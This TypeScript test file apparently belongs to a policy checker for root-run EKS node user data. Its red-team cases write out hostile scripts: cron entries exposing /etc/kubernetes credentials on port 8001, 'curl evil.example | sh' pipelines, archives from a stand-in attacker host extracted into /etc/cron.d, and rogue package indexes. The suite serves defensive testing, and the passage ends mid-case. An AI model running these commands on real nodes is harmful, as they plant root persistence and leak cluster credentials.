// Red-team round 80 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs and pip/uv installs
// run as root (policy-pack/engine/userDataReaders/pythonCode.ts). Probed the round-78/80 fixes' neighbours: relative
// paths given to unreviewed writers after os.chdir or a shell cd; writing methods outside PYTHON_WRITE_METHODS
// (ElementTree.write, DataFrame.to_csv, a bound tofile, SFTPClient.get); whole known packages in
// PYTHON_NO_FILE_WRITE_CALLS (click.open_file, click.edit, psutil.Popen); env-named commands (webbrowser's BROWSER);
// runners passed as values (Thread target, map, computed getattr, loop.subprocess_shell); site.addsitedir; `python -m`
// CLIs that run or write their operands (pydoc, pickle, zipfile/tarfile -e, json.tool outfile); the cwd on sys.path for
// -c/-m (shell cd sets of round 80, WorkingDirectory=); -X pycache_prefix; requirement-file options, direct references,
// nested -r, uv configuration (/etc/uv, the cwd's uv.toml), pip config set/list, sys.executable -m pip; root programs'
// writes into /run/<x>/ and /etc/<x>/ that root readers load (sysctl.d, binfmt.d, rpm macros, crypto-policies, gss
// mech.d), files a program writes that a later run imports, a venv's pip.conf.
// Misses (26 insecure accepted, 3 secure refused), by class:
// - PY-WRITE-RELATIVE (3): dev-py80-numpy-savetxt-chdir-rt80p, dev-py80-numpy-savetxt-shell-cwd-rt80p,
//   dev-py80-prom-textfile-chdir-rt80p: a relative argument of an unreviewed writer is "no evidence of a path"
//   (pythonArgumentWrites) although open/shutil/boto3 resolve it against the chdir. Fix: resolve against the cwd set.
// - PY-WRITE-METHOD (3): dev-py80-etree-write-text-rt80p, dev-py80-pandas-to-csv-rt80p, dev-py80-numpy-tofile-bound-rt80p:
//   PYTHON_WRITE_METHODS is a short list; bound methods are not resolved. Fix: fail closed on path-valued arguments of
//   unreviewed methods.
// - NO-WRITE-LIST (2): dev-py80-click-open-file-rt80p, dev-py80-click-edit-editor-rt80p; RUNNER-PACKAGE (1):
//   dev-py80-psutil-popen-rt80p: PYTHON_NO_FILE_WRITE_CALLS exempts whole packages (click, psutil, ...). Fix: review by
//   function.
// - ENV-COMMAND (2): dev-py80-webbrowser-env-rt80p, dev-py80-webbrowser-shell-env-rt80p: BROWSER is a command line
//   (webbrowser.open is in PYTHON_NON_WRITING_CALLS).
// - M-OPERAND (2): dev-py80-m-pydoc-path-rt80p, dev-py80-m-pickle-rt80p; M-OPERAND-WRITE (2):
//   dev-py80-m-zipfile-extract-rt80p, dev-py80-m-tarfile-extract-rt80p: PYTHON_OPERAND_RUNNERS is a denylist. Fix: an
//   allowlist of operand-safe stdlib CLIs; the writing CLIs judged as writes.
// - CWD-ROOT-ARCHIVE (4): dev-py80-m-cwd-shadow-rt80p, dev-py80-c-cwd-shadow-exit-rt80p, dev-py80-m-cwd-maybe-rt80p,
//   dev-py80-unit-workdir-m-rt80p: a tar-extracted cwd on sys.path for -c/-m is not seen as shadowing the stdlib (a
//   curl'd file there is). Fix: an extracted directory holds files of any name.
// - X-OPTION (1): dev-py80-pycache-prefix-x-rt80p: -X pycache_prefix is dropped (PYTHONPYCACHEPREFIX is refused).
// - DATA-PATH-CONFIG (5): dev-py80-run-sysctl-d-rt80p, dev-py80-run-binfmt-d-rt80p, dev-py80-rpm-macros-rt80p,
//   dev-py80-crypto-policies-openssl-rt80p, dev-py80-gss-mech-d-rt80p: PROGRAM_DATA_PATHS accepts any /run/<x>/ and
//   /etc/<x>/ not on its exclusion list. Fix: an allowlist of application directories; the readers' dirs in
//   READ_BEFORE_WRITE.
// - PY-WRITTEN-IMPORT-ROOT (1): dev-py80-py-written-shadow-rt80p: a file a root program downloads into a later
//   script's directory is not in view.changed.
// - secure REMOTE-PATH-AS-LOCAL (1): dev-py80-paramiko-sftp-get-cache-rt80p (SFTP remote path read as a node /srv read;
//   its insecure twin held only by that accident). Secure UV-DEFAULT (1): dev-py80-uv-default-rt80p (no uv install is
//   trusted; the three uv insecure cases are held by that). Secure PIP-CONFIG-READ (1): dev-py80-pip-config-list-rt80p.
// Held: 28 of 54 insecure refused (several by accident: paramiko get, set_executable, uv cases); 16 of 19 secure clean.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the program, a write root reads, pip, code it does not read, a command. */
const REFUSED =
    /serv|8001|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin|command|sysctl|module|code/;

const EVIL = "https://pypi.evil.example/simple";

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON_LINE = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001";

/** A shell command writing that cron line (what the insecure runners run). */
const CRON_CMD = `echo '${CRON_LINE}' > /etc/cron.d/ops`;

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = [], after: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
        ...after,
    ]);

/** A downloaded tarball extracted into `dir` (content the pack cannot read). */
const untar = (dir: string) => [
    "curl -fsSLo /var/cache/ops/x.tgz https://evil.example/x.tgz",
    `mkdir -p ${dir}`,
    `tar -xzf /var/cache/ops/x.tgz -C ${dir}`,
];

/** A script of shell lines after the ops directories are made. */
const sh = (name: string, lines: string[]) =>
    devNodeScript(name, ["mkdir -p /var/lib/ops /var/cache/ops /var/log/ops", ...lines]);

const insecure: NodeCase[] = [
    // ===== A. relative paths given to unreviewed writers after a chdir =====
    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. Python docs "os.chdir" ("Change the current working directory to path") and POSIX path resolution (a relative path is resolved from the working directory): NumPy "numpy.savetxt(fname, ...)" writes /etc/cron.d/ops, a file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: resolve every relative argument of an unreviewed writer against the program's possible working directories (os.chdir in the file, else the shell's cwd for the run) and judge the absolute path; unknown cwd fails closed.
    dev(
        "tune.py: os.chdir('/etc/cron.d'); numpy.savetxt('ops', [cron line]) (relative path)",
        tune("dev-py80-numpy-savetxt-chdir-rt80p", [
            "import numpy, os",
            'os.chdir("/etc/cron.d")',
            `numpy.savetxt("ops", ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. The shell's `cd /etc/cron.d &&` makes the program's working directory /etc/cron.d (bash(1) "cd"; a child inherits it, execve(2)): numpy.savetxt("ops") writes /etc/cron.d/ops (crontab(5)). Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the os.chdir case (the run's cwd, which pythonEntry already receives).
    dev(
        "user data: cd /etc/cron.d && python3 tune.py, tune.py numpy.savetxt('ops', ...) (cwd from the shell)",
        sh("dev-py80-numpy-savetxt-shell-cwd-rt80p", [
            ...heredocFile("/opt/ops/tune.py", ["import numpy", `numpy.savetxt("ops", ["${CRON_LINE}"], fmt="%s")`]),
            "cd /etc/cron.d && python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: boto3 "S3.Client.download_file(Bucket, Key, Filename)" after os.chdir('/etc/cron.d'): the writing-method table (PYTHON_WRITE_METHODS) resolves the relative Filename against the chdir: /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: os.chdir('/etc/cron.d'); boto3 download_file(bucket, key, 'ops') (relative Filename)",
        tune("dev-py80-boto3-download-chdir-rt80p", [
            "import boto3, os",
            'os.chdir("/etc/cron.d")',
            's3 = boto3.client("s3")',
            's3.download_file("ops-artifacts", "cron/ops", "ops")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (PY-WRITE-RELATIVE) insecure accepted, got []. prometheus_client write_to_textfile(path, registry) writes path (the library's docs "Node exporter textfile collector"), here /etc/cron.d/ops after os.chdir (Python docs "os.chdir"): a cron file of root (crontab(5)); the registry's text decides nothing cron can trust. Same place: pythonWriteRefusal's round-77/78 loop over unreviewed module functions (pythonArgumentWrites: `literal.startsWith("/") ? ... : []`, and a relative pythonPath result is dropped: "a relative one is no evidence of a path"), although open() and shutil.copy resolve a relative path against pythonChdirCalls' directory (held controls below). Fix: as the numpy chdir case.
    dev(
        "tune.py: os.chdir('/etc/cron.d'); prometheus_client.write_to_textfile('ops', REGISTRY)",
        tune("dev-py80-prom-textfile-chdir-rt80p", [
            "import os, prometheus_client",
            'os.chdir("/etc/cron.d")',
            'prometheus_client.write_to_textfile("ops", prometheus_client.REGISTRY)',
        ]),
        REFUSED,
    ),
    // ===== B. writing methods not in the table =====
    // Held (by accident): paramiko docs SFTPClient.get(remotepath, localpath): "Copy a remote file (remotepath) from the SFTP server to the local host as localpath": the remote server's file becomes /etc/cron.d/ops (crontab(5)). Refused only because the pack reads the REMOTE path /srv/cron/ops as a local read of a pod-writable /srv (see the secure twin, a MISS); localpath is never judged as a write. Fix: SFTPClient.get/getfo's localpath (and scp's get) into PYTHON_WRITE_METHODS; remotepath is no local file.
    dev(
        "tune.py: paramiko SFTPClient.get(remote, '/etc/cron.d/ops')",
        tune("dev-py80-paramiko-sftp-get-rt80p", [
            "import paramiko",
            "c = paramiko.SSHClient()",
            "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
            'c.connect("ops.example", username="ops")',
            'c.open_sftp().get("/srv/cron/ops", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. Python docs "xml.etree.ElementTree" ElementTree.write(file, ..., method="xml"): "file is a file name, or a file object opened for writing"; method "text" writes the text content only: the cron line becomes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_WRITE_METHODS (pythonCode.ts) lists download_file, retrieve, dump_stats, save_host_keys, write_private_key_file; ElementTree.write is a stdlib method writing its first argument. Fix: a method named write/save/dump/to_* (or any method) given a path-valued argument (pythonPath absolute, or pythonMayBePath) on an object the pack does not type fails closed, with a reviewed list of non-writing methods (str.write on a file object is judged at its open).
    dev(
        "tune.py: xml.etree.ElementTree(root with the cron text).write('/etc/cron.d/ops', method='text')",
        tune("dev-py80-etree-write-text-rt80p", [
            "import xml.etree.ElementTree as ET",
            'root = ET.Element("cron")',
            `root.text = "${CRON_LINE}\\n"`,
            'ET.ElementTree(root).write("/etc/cron.d/ops", method="text")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. pandas docs "DataFrame.to_csv(path_or_buf=None, ...)": "path_or_buf: str, path object, file-like object ... If a non-binary file object is passed" the CSV is written there; header=False, index=False leaves the cell text only: /etc/cron.d/ops holds the cron line (crontab(5)). pandas comes from the default index (trusted, round 74). PYTHON_WRITE_METHODS lacks the to_* writers (to_csv, to_json, to_parquet, to_pickle, to_excel, to_string(buf), to_html(buf)...). Fix: as the ElementTree case.
    dev(
        "tune.py: pandas DataFrame([[cron line]]).to_csv('/etc/cron.d/ops', header=False, index=False)",
        tune(
            "dev-py80-pandas-to-csv-rt80p",
            [
                "import pandas",
                `pandas.DataFrame([["${CRON_LINE}"]]).to_csv("/etc/cron.d/ops", header=False, index=False)`,
            ],
            ["pip3 install pandas==2.2.2"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (PY-WRITE-METHOD) insecure accepted, got []. NumPy docs "ndarray.tofile(fid, sep='', format='%s')": "fid: An open file object, or a string containing a filename" (Python reference "Method objects": a bound method `w = arr.tofile` called later is the same call): the string array's text lands in /etc/cron.d/ops (crontab(5)). The pack's method scan in pythonWriteRefusal matches `.tofile(` spelled at the call; a bound method stored in a name is a plain call of `w`, no callee it knows. Fix: resolve names bound to attribute references of non-module receivers (w = X.method) to the method before the method table, or fail closed on a call of a name bound to an attribute whose method is a writer.
    dev(
        "tune.py: numpy.array([cron line]).tofile via a bound method name (w = arr.tofile; w('/etc/cron.d/ops'))",
        tune("dev-py80-numpy-tofile-bound-rt80p", [
            "import numpy",
            `arr = numpy.array(["${CRON_LINE}\\n"])`,
            "w = arr.tofile",
            'w("/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (NO-WRITE-LIST) insecure accepted, got []. click docs "click.open_file(filename, mode='r', ...)": "Open a file, with extra behavior to handle '-' to indicate a standard stream"; mode 'w' writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_NO_FILE_WRITE_CALLS (pythonCode.ts) lists `click\.[\w.]+` whole (and typer, requests, boto3, psutil, logging...), so no click function is judged. Fix: list the reviewed non-writing functions of those libraries by name, not the whole package; click.open_file/click.get_binary_stream/typer's equivalents by their mode as open().
    dev(
        "tune.py: click.open_file('/etc/cron.d/ops', 'w').write(cron line)",
        tune("dev-py80-click-open-file-rt80p", [
            "import click",
            'with click.open_file("/etc/cron.d/ops", "w") as f:',
            `    f.write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    // ===== C. commands through calls the runner list does not name =====
    // Was a MISS (fixed in round 80): (RUNNER-PACKAGE) insecure accepted, got []. psutil docs "psutil.Popen(*args, **kwargs)": "Same as subprocess.Popen but in addition it provides all psutil.Process methods": root's sh writes /etc/cron.d/ops (crontab(5)). The pack: PYTHON_COMMAND_RUNNERS names os/subprocess/asyncio/pty/commands/distutils/pipes/multiprocessing.util, and `psutil\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS. Fix: psutil.Popen (and the known packages' runners: invoke.run, sh, plumbum, pexpect.spawn/run, sarge, fabric's local) in PYTHON_COMMAND_RUNNERS / PYTHON_READ_RUNNERS; a known package is reviewed by function, not whole.
    dev(
        "tune.py: psutil.Popen(['sh', '-c', cron write]) (psutil's subprocess.Popen)",
        tune("dev-py80-psutil-popen-rt80p", ["import psutil", `psutil.Popen(["sh", "-c", "${CRON_CMD}"]).wait()`]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (ENV-COMMAND) insecure accepted, got []. Python docs "webbrowser": "If the environment variable BROWSER exists, it is interpreted as the os.pathsep-separated list of browsers to try ahead of the platform defaults. When the value of a list part contains the string %s, then it is interpreted as a literal browser command line to be used with the argument URL substituted for %s": root runs the sh command (the cron write). The pack: PYTHON_NON_WRITING_CALLS declares webbrowser.open* harmless and no runner list holds it; os.environ writes of BROWSER are not judged as a command. Fix: webbrowser.open/open_new/open_new_tab/get and `python -m webbrowser` are runners of the BROWSER value (read when BROWSER is unset or a known browser name, else fail closed); likewise other env-named commands (PAGER for pydoc/help, EDITOR/VISUAL for click.edit).
    dev(
        "tune.py: os.environ['BROWSER'] = 'sh -c \"cron write\" %s'; webbrowser.open(url)",
        tune("dev-py80-webbrowser-env-rt80p", [
            "import os, webbrowser",
            `os.environ["BROWSER"] = "sh -c '${CRON_LINE.replace(/'/g, "")} > /etc/cron.d/ops' %s"`,
            'webbrowser.open("https://ops.example/done")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (ENV-COMMAND) insecure accepted, got []. As the os.environ case (Python docs "webbrowser" BROWSER ... %s "a literal browser command line"), BROWSER given as the shell prefix assignment (bash(1) "SIMPLE COMMAND EXPANSION": assignments before the command name are in its environment): root pipes a download into sh. The pack reads the run's PYTHON* variables (PYTHON_ENVIRONMENT in pythonEntry) but not other variables a standard module turns into a command. Fix: as the os.environ case.
    dev(
        "user data: BROWSER='sh -c ... %s' python3 tune.py, tune.py webbrowser.open(url)",
        sh("dev-py80-webbrowser-shell-env-rt80p", [
            ...heredocFile("/opt/ops/tune.py", ["import webbrowser", 'webbrowser.open("https://ops.example/done")']),
            `BROWSER="sh -c 'curl -fsS https://evil.example/x | sh' %s" python3 /opt/ops/tune.py`,
        ]),
        REFUSED,
    ),
    // Held: Python docs "threading.Thread(target=...)": target is "the callable object to be invoked by the run() method": os.system is called with the cron write (crontab(5)); the pack sees os.system referenced and fails closed ("runs commands the pack does not read").
    dev(
        "tune.py: threading.Thread(target=os.system, args=(cron write,)).start() (the runner passed, not called)",
        tune("dev-py80-thread-target-system-rt80p", [
            "import os, threading",
            `threading.Thread(target=os.system, args=("${CRON_CMD}",)).start()`,
        ]),
        REFUSED,
    ),
    // Held: Python docs "map(function, iterable)" calls os.system on each item: the cron write; refused as a runner the pack does not read.
    dev(
        "tune.py: list(map(os.system, [cron write]))",
        tune("dev-py80-map-system-rt80p", ["import os", `list(map(os.system, ["${CRON_CMD}"]))`]),
        REFUSED,
    ),
    // Held: Python docs "getattr(object, name)": "sys" + "tem" names os.system; the pack fails closed on an attribute named by a computed string.
    dev(
        "tune.py: getattr(os, 'sys' + 'tem')(cron write) (a computed attribute name)",
        tune("dev-py80-getattr-concat-rt80p", ["import os", `getattr(os, "sys" + "tem")("${CRON_CMD}")`]),
        REFUSED,
    ),
    // ===== D. code loaded by site / -m / interpreter options =====
    // Held: Python docs "site.addsitedir(sitedir)": "Add a directory to sys.path and process its .pth files" ("Lines starting with import ... are executed"): the tarball's .pth runs as root. Refused because the pack takes the tarball as possibly shadowing `site` on the import path (a broader reason than addsitedir itself).
    dev(
        "tune.py: site.addsitedir(tarball dir) (its .pth import lines run)",
        tune(
            "dev-py80-site-addsitedir-rt80p",
            ["import site", 'site.addsitedir("/var/cache/ops/lib")', "print('ok')"],
            untar("/var/cache/ops/lib"),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (M-OPERAND) insecure accepted, got []. Python docs "pydoc": "In order to find objects and their documentation, pydoc imports the module(s) to be documented. Therefore, any code on module level will be executed"; an argument containing a path separator "is treated as a path to a Python source file": the tarball's x.py runs as root. The pack: PYTHON_OPERAND_RUNNERS (pythonCode.ts, read in pythonEntry) lists unittest|doctest|pdb|cProfile|profile|trace|timeit|runpy|pytest, not pydoc (its comment: "pydoc's server (-p/-n) is read by the server readers"), so `-m pydoc FILE` is stdlib code. Fix: pydoc's documenting forms (a name or path operand; -w) import their operand: in PYTHON_OPERAND_RUNNERS unless the operand is a module the pack reads; more generally, a stdlib -m module with operands is read only when it is on a reviewed list of operand-safe CLIs (json.tool, base64, calendar, ...).
    dev(
        "user data: python3 -m pydoc /var/cache/ops/lib/x.py (pydoc imports a path operand)",
        sh("dev-py80-m-pydoc-path-rt80p", [...untar("/var/cache/ops/lib"), "python3 -m pydoc /var/cache/ops/lib/x.py"]),
        REFUSED,
    ),
    // Held: "The Python Profilers" `python -m profile SCRIPT` runs the script: PYTHON_OPERAND_RUNNERS (round 78).
    dev(
        "user data: python3 -m profile /var/cache/ops/lib/x.py (profile runs its script)",
        sh("dev-py80-m-profile-rt80p", [...untar("/var/cache/ops/lib"), "python3 -m profile /var/cache/ops/lib/x.py"]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (M-OPERAND-WRITE) insecure accepted, got []. Python docs "zipfile" Command-Line Interface: `-e <zipfile> <output_dir>` "Extract zipfile into target directory": the download's members become files of /etc/cron.d (crontab(5)): any root job. The pack reads `python -m zipfile` as stdlib code and never judges its operands as writes (pythonEntry; the Python writers are judged in code, zipfile.ZipFile.extractall, not on the command line). Fix: the stdlib CLIs that write their operands (zipfile -e/-c, tarfile -e/-c, json.tool's outfile (held below by the shell reader), gzip/-d, compileall -d, zipapp -o) judged as writes of the named path (an extraction: any file under the directory), or the same allowlist of operand-safe CLIs as the pydoc case.
    dev(
        "user data: python3 -m zipfile -e downloaded.zip /etc/cron.d/ (zipfile's CLI extracts into root's cron)",
        sh("dev-py80-m-zipfile-extract-rt80p", [
            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
            "python3 -m zipfile -e /var/cache/ops/c.zip /etc/cron.d/",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (M-OPERAND-WRITE) insecure accepted, got []. Python docs "tarfile" Command-Line Interface: `-e <tarfile> [<output_dir>]` "Extract tarfile into the current directory if output_dir is not specified" (3.9: no extraction filter): the members land in /etc/cron.d (crontab(5)). Same place and fix as the zipfile case.
    dev(
        "user data: python3 -m tarfile -e downloaded.tgz /etc/cron.d/",
        sh("dev-py80-m-tarfile-extract-rt80p", [
            "curl -fsSLo /var/cache/ops/c.tgz https://evil.example/c.tgz",
            "python3 -m tarfile -e /var/cache/ops/c.tgz /etc/cron.d/",
        ]),
        REFUSED,
    ),
    // Held: python(1) with no script reads the program from standard input (Python docs "Command line and environment": "-" or stdin): the downloaded x.py runs as root; refused as a program from standard input the pack does not know.
    dev(
        "user data: python3 < downloaded.py (the program on stdin)",
        sh("dev-py80-stdin-redirect-rt80p", [
            "curl -fsSLo /var/cache/ops/x.py https://evil.example/x.py",
            "python3 < /var/cache/ops/x.py",
        ]),
        REFUSED,
    ),
    // Held: as the redirect case (`-`: "Read commands from standard input"), piped from curl.
    dev(
        "user data: curl url | python3 - (the program on a pipe)",
        sh("dev-py80-pipe-dash-rt80p", ["curl -fsSL https://evil.example/x.py | python3 -"]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "Command line and environment", -m: "As with the -c option, the current directory will be added to the start of sys.path" (sys.path docs: before the standard library): the tarball's json package runs as root instead of the stdlib's. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
    dev(
        "user data: cd tarball dir && python3 -m json.tool f (cwd first on sys.path shadows json)",
        sh("dev-py80-m-cwd-shadow-rt80p", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "cd /var/cache/ops/src && python3 -m json.tool /etc/ops/x.json",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "-c <command>": "the first element of sys.path will be the current directory" (`cd D || exit 1`: the round-80 cd set says D): the tarball's json.py runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
    dev(
        "user data: cd tarball dir || exit; python3 -c 'import json' (cwd on sys.path for -c)",
        sh("dev-py80-c-cwd-shadow-exit-rt80p", [
            ...untar("/var/cache/ops/src"),
            "cd /var/cache/ops/src || exit 1",
            "python3 -c 'import json; print(json.dumps(1))'",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. bash(1) "Lists": `[ -d D ] && cd D` leaves the cwd D when the test succeeds (the round-80 set {/var/lib/ops, D}); Python docs -m: the cwd first on sys.path: the tarball's json runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
    dev(
        "user data: [ -d tarball ] && cd tarball; python3 -m json.tool (the cwd may be the tarball)",
        sh("dev-py80-m-cwd-maybe-rt80p", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "cd /var/lib/ops",
            "[ -d /var/cache/ops/src ] && cd /var/cache/ops/src",
            "python3 -m json.tool /etc/ops/x.json",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (X-OPTION) insecure accepted, got []. Python docs "sys.pycache_prefix": "If this is set (not None), Python will write bytecode-cache .pyc files to (and read them from) a parallel directory tree rooted at this directory, rather than from __pycache__ directories"; -X pycache_prefix=PATH sets it (Python 3.8 What's New: "PYTHONPYCACHEPREFIX setting (also available as -X pycache_prefix)"): the tarball's usr/lib64/python3.9/json/__pycache__ bytecode runs as root. The twin PYTHONPYCACHEPREFIX is refused (PYTHON_ENVIRONMENT "unread"); pythonInvocation takes -X's value and drops it. Fix: read -X options as their variables (pycache_prefix = PYTHONPYCACHEPREFIX, importtime/dev/utf8/faulthandler/tracemalloc harmless), an unknown -X fails closed.
    dev(
        "user data: python3 -X pycache_prefix=tarball dir tune.py (stdlib bytecode read from the tarball)",
        sh("dev-py80-pycache-prefix-x-rt80p", [
            ...untar("/var/cache/ops/pyc"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "python3 -X pycache_prefix=/var/cache/ops/pyc /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: Python docs "PYTHONPYCACHEPREFIX" (bytecode read from that tree): refused as a variable the pack does not follow.
    dev(
        "user data: PYTHONPYCACHEPREFIX=tarball dir python3 tune.py",
        sh("dev-py80-pycache-prefix-env-rt80p", [
            ...untar("/var/cache/ops/pyc"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "PYTHONPYCACHEPREFIX=/var/cache/ops/pyc python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // ===== E. pip / uv sources the words do not name =====
    // Held: pip docs "Requirements File Format" (supported options: -i/--index-url, --extra-index-url, -f/--find-links): srvx may come from the other index and runs as root; refused (srvx untrusted).
    dev(
        "user data: requirements file (heredoc) with --extra-index-url evil, pip3 install -r",
        sh("dev-py80-req-extra-index-rt80p", [
            ...heredocFile("/etc/ops/req.txt", [`--extra-index-url ${EVIL}`, "srvx==1.0"]),
            "pip3 install -r /etc/ops/req.txt",
            ...heredocFile("/opt/ops/tune.py", ["import srvx", "srvx.main()"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: pip docs "Requirement Specifiers" (PEP 508 `name @ URL` direct reference): srvx from that URL; refused (srvx untrusted).
    dev(
        "user data: requirements file with a PEP 508 direct URL (srvx @ https://evil/...whl)",
        sh("dev-py80-req-direct-url-rt80p", [
            ...heredocFile("/etc/ops/req.txt", ["srvx @ https://evil.example/srvx-1.0-py3-none-any.whl"]),
            "pip3 install -r /etc/ops/req.txt",
            ...heredocFile("/opt/ops/tune.py", ["import srvx", "srvx.main()"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: pip docs "Requirements File Format" `-r FILE` ("Install from the given requirements file"; nested): the download may name any index and shadow tenacity; refused.
    dev(
        "user data: requirements file including a downloaded one (-r /var/cache/ops/more.txt)",
        sh("dev-py80-req-nested-download-rt80p", [
            "curl -fsSLo /var/cache/ops/more.txt https://evil.example/more.txt",
            ...heredocFile("/etc/ops/req.txt", ["-r /var/cache/ops/more.txt", "tenacity==8.2.3"]),
            "pip3 install -r /etc/ops/req.txt",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: PEP 508 direct reference on pip's command line: srvx from an arbitrary URL; refused.
    dev(
        "user data: pip3 install 'srvx @ https://evil/...whl' (a direct reference on the command line)",
        sh("dev-py80-pip-direct-ref-rt80p", [
            "pip3 install 'srvx @ https://evil.example/srvx-1.0-py3-none-any.whl'",
            ...heredocFile("/opt/ops/tune.py", ["import srvx", "srvx.main()"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held (by accident): uv docs "Configuration files" (system-level /etc/uv/uv.toml, [pip] index-url): srvx from another index. Refused only because the pack trusts no uv install at all (secure twin dev-py80-uv-default-rt80p refused), not because it reads uv.toml.
    dev(
        "user data: /etc/uv/uv.toml (heredoc) sets index-url evil; uv pip install --system srvx",
        sh("dev-py80-uv-system-toml-rt80p", [
            "pip3 install uv==0.4.30",
            ...heredocFile("/etc/uv/uv.toml", ["[pip]", `index-url = "${EVIL}"`]),
            "uv pip install --system srvx",
            ...heredocFile("/opt/ops/tune.py", ["import srvx", "srvx.main()"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held (by accident): uv docs "Configuration files": uv discovers uv.toml/pyproject.toml in the current directory or its parents: the tarball's uv.toml may set the index. Refused only because no uv install is trusted (as the /etc/uv case).
    dev(
        "user data: cd tarball dir && uv pip install --system tenacity (uv.toml in the cwd is uv's config)",
        sh("dev-py80-uv-project-toml-rt80p", [
            "pip3 install uv==0.4.30",
            ...untar("/var/cache/ops/proj"),
            "cd /var/cache/ops/proj && uv pip install --system tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: Python docs "sys.executable" is the interpreter; `-m pip install -i EVIL srvx` (pip docs --index-url): srvx untrusted; refused (round 78: a program running pip is unread).
    dev(
